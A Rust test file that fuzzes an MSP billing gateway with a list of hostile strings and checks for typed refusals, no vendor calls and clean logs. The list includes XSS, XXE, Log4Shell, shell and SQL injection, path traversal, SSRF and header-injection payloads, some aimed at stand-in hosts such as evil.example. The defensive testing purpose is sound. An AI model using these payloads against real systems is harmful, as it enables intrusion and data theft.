//! Hostile strings in every place that takes one. Each is answered with a typed refusal, costs no
//! vendor call, and leaves no trace but one line in the log.

use std::sync::LazyLock;

use crate::whole::{ALL, Events, Reply, Whole, assert_no_vendor_key, get, post, search, world};
use crate::whole::{SETTINGS, caller, secrets};

/// A gateway over a world whose searches end with one page.
pub fn gateway() -> Whole {
    let mut world = world();
    world.cases = 30;
    let text = format!("{SETTINGS}{}", caller("all", "role = \"operator\""));
    Whole::with(&text, &secrets(), world)
}

pub fn bytes(before: &str, middle: &[u8], after: &str) -> Vec<u8> {
    [before.as_bytes(), middle, after.as_bytes()].concat()
}

/// Strings that have broken somebody's program.
static STRINGS: LazyLock<Vec<String>> = LazyLock::new(|| {
    let mut all: Vec<String> = [
        "",
        " ",
        "undefined",
        "undef",
        "null",
        "NULL",
        "(null)",
        "nil",
        "NIL",
        "true",
        "false",
        "None",
        "\\",
        "\\\\",
        "0",
        "1",
        "-1",
        "1.00",
        "$1.00",
        "1/2",
        "1E2",
        "1E02",
        "-0",
        "+0",
        "0..0",
        ".",
        "..",
        "0.0.0",
        "0,00",
        "0x0",
        "0xffffffff",
        "NaN",
        "Infinity",
        "-Infinity",
        "1#INF",
        "1#QNAN",
        "999999999999999999999999999999",
        "9223372036854775808",
        "-9223372036854775809",
        "01000",
        "08",
        ",./;'[]\\-=",
        "<>?:\"{}|_+",
        "!@#$%^&*()`~",
        "\u{2126}\u{2248}\u{e7}\u{221a}",
        "\u{2070}\u{2074}\u{2075}",
        "\u{202e}abc",
        "\u{200b}",
        "\u{feff}",
        "\u{fffe}",
        "\u{ad}",
        "\u{2028}",
        "\u{2029}",
        "\u{85}",
        "\u{180e}",
        "\u{202a}test\u{202a}",
        "\u{2066}test\u{2067}",
        "\u{1f469}\u{1f3fd}",
        "\u{1f468}\u{200d}\u{1f466}",
        "\u{ff11}\u{ff12}\u{ff13}",
        "\u{661}\u{662}\u{663}",
        "\u{5d0}\u{5d1}",
        "\u{627}\u{644}",
        "Z\u{334}\u{321}a\u{340}l\u{341}go",
        "\u{130}I\u{131}i",
        "\u{df}",
        "\u{fb01}",
        "\u{1e9e}",
        "\u{10ffff}",
        "\u{e000}",
        "\u{fdfa}",
        "<script>alert(1)</script>",
        "\"><script>alert(1)</script>",
        "' onmouseover=alert(1)",
        "javascript:alert(1)",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<!--",
        "]]>",
        "<?xml version=\"1.0\"?>",
        "<!DOCTYPE foo [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "${jndi:ldap://evil/a}",
        "%x%x%x%x",
        "%n%n%n%n",
        "%s%s%s%s%s",
        "%d",
        "%08x",
        "{0}",
        "{}",
        "$HOME",
        "$(touch /tmp/x)",
        "`touch /tmp/x`",
        "; ls -la",
        "| id",
        "&& id",
        "|| id",
        "\n id",
        "() { :;}; echo x",
        "1;DROP TABLE users",
        "1'; DROP TABLE users-- 1",
        "' OR 1=1 -- 1",
        "' OR '1'='1",
        "'; EXEC xp_cmdshell('dir')--",
        "' UNION SELECT NULL--",
        "*)(uid=*))(|(uid=*",
        "admin'--",
        "%27",
        "%",
        "_",
        "*",
        "?",
        "#",
        "&",
        "=",
        "+",
        ";",
        "a=b&c=d",
        "a&customer_id=org_1",
        "org_1&customer_id=org_2",
        "org_1,org_2",
        "org_1;org_2",
        "org_1|org_2",
        "org_1 ",
        " org_1",
        "ORG_1",
        "org_1\t",
        "org_1%00",
        "org_1/../org_2",
        "org_1%2f..%2forg_2",
        "org_1#",
        "org_1?x=1",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2f",
        "..%252f..%252f",
        "....//....//",
        "/etc/passwd",
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data/",
        "//evil.example/",
        "\\\\evil\\x",
        "https://evil.example/?x=",
        "http://127.0.0.1:9180/metrics",
        "@evil.example",
        "CON",
        "PRN",
        "AUX",
        "NUL",
        "COM1",
        "/dev/null; touch x",
        "/dev/random",
        "\r\nX-Injected: 1",
        "\nSet-Cookie: a=b",
        "%0d%0aX-Injected:%201",
        "\r\n\r\nGET /msp/customers HTTP/1.1\r\n\r\n",
        "\u{1b}[31mred\u{1b}[0m",
        "\u{1b}]0;title\u{7}",
        "\u{7}",
        "\u{8}\u{8}\u{8}",
        "{\"a\":1}",
        "[1,2]",
        "\"quoted\"",
        "'quoted'",
        "{\"$gt\":\"\"}",
        "__proto__",
        "constructor",
        "prototype",
        "toString",
        "hasOwnProperty",
        "*/*",
        "sha256:",
        "Bearer x",
        "k-all",
        "2026-02-30",
        "2026-13-01",
        "2026-00-00",
        "0000-00-00",
        "9999-99-99",
        "2026-1-1",
        "20260101",
        "2026-01-01T00:00:00Z",
        "-2026-01-01",
        "+12026-01-01",
        "202600",
        "202613",
        "000000",
        "999999",
        "-20261",
        "2026 9",
        "2026-09",
        "\u{ff12}\u{ff10}\u{ff12}\u{ff16}\u{ff10}\u{ff19}",
        "ndjson,csv",
        "CSV",
        "csv\0",
        "any all",
        "ANY",
        "id,id",
        "id,,name",
        ",",
        "id,name,",
        "customer_id",
        "*,id",
    ]
    .iter()
    .map(|text| (*text).to_owned())
    .collect();
    all.extend((0..0x20_u8).map(|byte| format!("a{}b", char::from(byte))));
    all.extend([128, 129, 256, 1_000, 3_000].map(|n| "x".repeat(n)));
    all.push("\u{1f4a9}".repeat(250));
    all.push("(".repeat(2_000));
    all
});

/// Everything percent-encoded that is not plainly a letter, digit or hyphen.
fn encoded(text: &str) -> String {
    let mut out = String::new();
    for byte in text.bytes() {
        if byte.is_ascii_alphanumeric() || byte == b'-' {
            out.push(char::from(byte));
        } else {
            out.push_str(&format!("%{byte:02X}"));
        }
    }
    out
}

/// As it is, where a request line can hold it.
fn raw(text: &str) -> Option<&str> {
    let fits = |byte: u8| byte > 0x20 && byte != 0x7f && byte != b'#' && byte != b'?';
    (!text.is_empty() && text.bytes().all(fits)).then_some(text)
}

/// Requests with `{}` where a hostile string goes.
const TARGETS: [&str; 22] = [
    "GET /msp/customers?fields={}",
    "GET /msp/customers?{}",
    "GET /msp/customers?{}=1",
    "GET /msp/{}",
    "GET /{}",
    "POST /v2/cases/msp/search?customer_id={}",
    "QUERY /v2/cases/msp/search?customer_id={}",
    "POST /v2/cases/msp/search?{}=1",
    "GET /v1/cases/export?customer_id={}",
    "GET /v1/cases/export?start={}&end=2026-11-20",
    "GET /v1/cases/export?start=2026-11-01&end={}",
    "GET /v1/cases/export?format={}",
    "GET /v1/billing/{}",
    "GET /v1/billing/{}/789012",
    "GET /v1/billing/202609/{}",
    "POST /ws/rest/V1/PSA_API/InvoicesReady/{}/202609",
    "POST /ws/rest/V1/PSA_API/PSABillableServices/-/{}/789012",
    "POST /ws/rest/V1/PSA_API/PSABillableServices/-/202609/{}",
    "GET /v1/overview?start={}&end=2026-11-20",
    "GET /v1/overview?timeframe={}",
    "GET /v1/overview?require={}",
    "GET /openapi.json?{}",
];

const HEADERS: [&str; 20] = [
    "accept",
    "accept-encoding",
    "accept-language",
    "cache-control",
    "content-type",
    "cookie",
    "expect",
    "forwarded",
    "if-none-match",
    "if-modified-since",
    "origin",
    "range",
    "referer",
    "te",
    "traceparent",
    "tracestate",
    "user-agent",
    "x-forwarded-host",
    "x-http-method-override",
    "x-request-id",
];

/// A refusal is typed and asked no vendor anything; nothing is ever a 500.
async fn ask(whole: &Whole, request: &[u8]) -> Option<Reply> {
    let before = whole.vendor_calls();
    let mut peer = whole.connect();
    peer.send(request).await;
    let shown = || String::from_utf8_lossy(&request[..request.len().min(300)]).into_owned();
    let Some(reply) = peer.reply().await else {
        panic!("no answer: {}", shown());
    };
    assert!(reply.status < 500, "{} {}", reply.status, shown());
    if reply.status >= 400 {
        // hyper's own refusals of broken framing have no body.
        let hypers = matches!(reply.status, 400 | 431) && reply.body.is_empty();
        let code = reply.code();
        assert!(hypers || !code.is_empty(), "{} {}", reply.status, shown());
        // A contract in good form is N-able's to know.
        if code != "billing_not_found" {
            assert_eq!(whole.vendor_calls(), before, "{code} {}", shown());
        }
    }
    Some(reply)
}

async fn try_all(whole: &Whole, strings: &[String]) -> usize {
    let mut count = 0;
    for text in strings {
        let mut spellings = vec![encoded(text)];
        spellings.extend(raw(text).map(str::to_owned));
        for spelling in &spellings {
            for target in TARGETS {
                let line = target.replace("{}", spelling);
                let (method, target) = line.split_once(' ').unwrap();
                let body = if method == "GET" { "" } else { "{}" };
                let request = format!(
                    "{method} {target} HTTP/1.1\r\nhost: x\r\n{ALL}content-type: application/json\r\ncontent-length: {}\r\n\r\n{body}",
                    body.len()
                );
                ask(whole, request.as_bytes()).await;
                count += 1;
            }
        }
        let value: Vec<u8> = text
            .bytes()
            .filter(|byte| !b"\r\n\0".contains(byte))
            .collect();
        for header in HEADERS {
            let before = format!("GET /msp/customers HTTP/1.1\r\nhost: x\r\n{ALL}{header}: ");
            ask(whole, &bytes(&before, &value, "\r\n\r\n")).await;
            count += 1;
        }
        let quoted = serde_json::to_string(text).unwrap();
        for body in [
            format!("{{\"max_returned_items\":{quoted}}}"),
            format!("{{\"date_range\":{{\"start\":{quoted},\"end\":\"2026-11-20\"}}}}"),
            format!(
                "{{\"date_range\":{{\"start\":\"2026-11-20\",\"end\":\"2026-11-20\",{quoted}:1}}}}"
            ),
            format!("{{\"start_page_key\":{{\"scroll_id\":{quoted}}}}}"),
            format!("{{\"start_page_key\":{{\"scroll_id\":\"x\",{quoted}:1}}}}"),
        ] {
            let reply = ask(whole, search(ALL, &body).as_bytes()).await.unwrap();
            assert_eq!(reply.status, 400, "{body}");
            count += 1;
        }
        let unknown = post(
            "/v2/cases/msp/search",
            ALL,
            &format!("{{{quoted}:{quoted}}}"),
        );
        ask(whole, unknown.as_bytes()).await;
        count += 1;
    }
    count
}

#[tokio::test(start_paused = true)]
async fn hostile_strings_are_refused_by_name_everywhere() {
    let whole = gateway();
    let (events, listening) = Events::listen();
    assert!(STRINGS.len() >= 200, "{}", STRINGS.len());
    // Warm, so that what is answered from memory is so below.
    for request in [
        get("/msp/customers", ALL),
        get("/v1/overview?timeframe=202609", ALL),
    ] {
        assert_eq!(whole.ask(request).await.status, 200);
    }
    let (odd, even): (Vec<_>, Vec<_>) = STRINGS
        .iter()
        .cloned()
        .enumerate()
        .partition(|(n, _)| n % 2 == 1);
    let strings =
        |half: Vec<(usize, String)>| half.into_iter().map(|(_, text)| text).collect::<Vec<_>>();
    let mut count = try_all(&whole, &strings(odd)).await;
    drop(listening);
    let series = whole.series().await;
    count += try_all(&whole, &strings(even)).await;
    let after = whole.series().await;
    let grown: Vec<_> = after.iter().filter(|name| !series.contains(name)).collect();
    // Every value of every label is one of ours. Only a pair of them, or a problem that the first
    // half did not meet, may be new. A histogram counts once, by its number of observations.
    let grown: Vec<_> = grown
        .into_iter()
        .filter(|name| !name.contains("_bucket{") && !name.contains("_seconds_sum{"))
        .collect();
    let closed = [
        "msp_gateway_requests_total{caller=\"",
        "msp_gateway_problems_total{code=\"",
        "msp_gateway_request_duration_seconds_count{cache=\"",
    ];
    for name in &grown {
        assert!(closed.iter().any(|start| name.starts_with(start)), "{name}");
    }
    assert!(grown.len() <= 8, "{grown:?}");
    let lines = whole.log.lines();
    for line in &lines {
        assert_eq!(line.matches('\n').count(), 1, "{line:?}");
        assert!(
            line.trim_end()
                .chars()
                .all(|c| !c.is_control() && c != '\u{2028}'),
            "{line:?}"
        );
        let object: serde_json::Value = serde_json::from_str(line).expect(line);
        assert!(object.is_object() && line.len() < 4_000, "{line}");
    }
    for line in events.text().lines() {
        let object: serde_json::Value = serde_json::from_str(line).expect(line);
        assert!(object.is_object(), "{line}");
    }
    assert_eq!(whole.metrics.panics.get(), 0);
    assert_no_vendor_key(
        &(whole.everything().await + &events.text()),
        "hostile strings",
    );
    println!("hostile: {count} requests with {} strings", STRINGS.len());
}
